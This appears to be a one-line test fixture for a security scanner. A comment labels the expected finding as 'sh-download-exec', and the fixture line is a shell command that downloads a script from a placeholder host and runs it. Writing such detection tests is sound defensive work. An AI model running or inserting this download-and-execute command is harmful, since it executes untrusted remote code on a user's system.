# expect: sh-download-exec
sh -c "$(curl -fsSL https://x.example/b.sh)"
